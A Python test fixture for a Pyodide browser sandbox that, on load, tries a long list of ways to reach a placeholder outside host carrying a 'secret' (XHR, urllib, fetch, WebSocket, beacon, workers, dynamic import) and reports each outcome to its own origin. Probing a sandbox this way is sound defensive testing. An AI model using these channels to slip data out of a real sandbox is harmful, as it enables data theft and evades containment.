"""Takes the place of letterkit.wire in the test: tries every way out that Python has in a browser."""

import asyncio
import json
import urllib.request
from urllib.parse import quote

import js
import pyodide.code
import pyodide.http

OTHER = "@OTHER@"
SOCKET = OTHER.replace("http", "ws")


def report(name: str, outcome: object) -> None:
    """Tell our own origin that an attempt was made."""
    js.fetch(f"{js.location.origin}/report/py/{name}?{quote(str(outcome)[:80])}")


def by_xhr() -> int:
    """Ask synchronously."""
    request = js.XMLHttpRequest.new()
    request.open("GET", f"{OTHER}/py-xhr?secret", False)
    request.send()
    return request.status


AT_ONCE = {
    "open_url": lambda: pyodide.http.open_url(f"{OTHER}/py-open-url?secret"),
    "urllib": lambda: urllib.request.urlopen(f"{OTHER}/py-urllib?secret", timeout=1),
    "xhr": by_xhr,
    "websocket": lambda: js.WebSocket.new(f"{SOCKET}/py-websocket?secret"),
    "eventsource": lambda: js.EventSource.new(f"{OTHER}/py-eventsource?secret"),
    "importScripts": lambda: js.importScripts(f"{OTHER}/py-import-scripts.js"),
    "beacon": lambda: js.navigator.sendBeacon(f"{OTHER}/py-beacon", "secret"),
    "worker": lambda: js.Worker.new(f"{OTHER}/py-worker.js"),
    "webrtc": lambda: js.RTCPeerConnection.new(),
}
IN_TIME = {
    "pyfetch": lambda: pyodide.http.pyfetch(f"{OTHER}/py-pyfetch?secret"),
    "fetch": lambda: js.fetch(f"{OTHER}/py-fetch?secret"),
    "run_js": lambda: pyodide.code.run_js(f"import('{OTHER}/py-import.js')"),
}


async def attack() -> None:
    """Try all, one after the other."""
    for name, way in AT_ONCE.items():
        try:
            report(name, f"done: {way()}")
        except BaseException as error:
            report(name, repr(error))
    for name, way in IN_TIME.items():
        try:
            report(name, f"done: {await asyncio.wait_for(way(), 2)}")
        except BaseException as error:
            report(name, repr(error))
    report("all", "tried")


attacking = asyncio.ensure_future(attack())


def handle(request: str) -> str:
    """Answer as little as the page needs."""
    return json.dumps({"version": 1, "ok": False, "error": request[:10]})
